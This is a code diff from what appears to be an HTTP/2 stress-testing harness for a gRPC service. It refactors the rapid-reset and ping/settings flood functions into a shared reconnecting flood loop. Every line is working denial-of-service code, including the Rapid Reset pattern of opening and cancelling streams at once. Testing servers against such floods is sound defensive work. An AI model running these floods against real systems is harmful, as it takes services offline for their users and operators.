@@ -136,9 +136,9 @@ def connection_storm(attack: Attack) -> None:
             one.close()
 
 
-def rapid_resets(attack: Attack) -> None:
-    """Calls that are begun and broken off at once, as fast as the connection takes them."""
-    head, is_told = head_of_call(PATH + "GetStatus"), False
+def _flood(attack: Attack, send: Callable[[socket.socket], None]) -> None:
+    """Send on one connection as fast as it takes it; again on a new one where that was cut."""
+    is_told = False
     while True:
         with contextlib.suppress(OSError):
             one = connect(attack.address, attack.tls)
@@ -146,24 +146,30 @@ def rapid_resets(attack: Attack) -> None:
             if not is_told:
                 is_told = True
                 ready()
-            for number in range(1, 1 << 30, 2):
-                one.sendall(frame(HEADERS, END_HEADERS, number, head) + frame(RST_STREAM, 0, number, b"\0\0\0\x08"))
+            send(one)
         time.sleep(0.01)
+
+
+def rapid_resets(attack: Attack) -> None:
+    """Calls that are started and broken off at once."""
+    head = head_of_call(PATH + "GetStatus")
+
+    def send(one: socket.socket) -> None:
+        for number in range(1, 1 << 30, 2):
+            one.sendall(frame(HEADERS, END_HEADERS, number, head) + frame(RST_STREAM, 0, number, b"\0\0\0\x08"))
+
+    _flood(attack, send)
 
 
 def pings(attack: Attack) -> None:
     """Pings and settings without an end."""
-    is_told, many = False, (frame(PING, 0, 0, b"attacked") + frame(SETTINGS, 0, 0)) * 100
-    while True:
-        with contextlib.suppress(OSError):
-            one = connect(attack.address, attack.tls)
-            one.sendall(PREFACE + frame(SETTINGS, 0, 0))
-            if not is_told:
-                is_told = True
-                ready()
-            while True:
-                one.sendall(many)
-        time.sleep(0.01)
+    many = (frame(PING, 0, 0, b"attacked") + frame(SETTINGS, 0, 0)) * 100
+
+    def send(one: socket.socket) -> None:
+        while True:
+            one.sendall(many)
+
+    _flood(attack, send)
 
 
 def call_flood(attack: Attack) -> None:
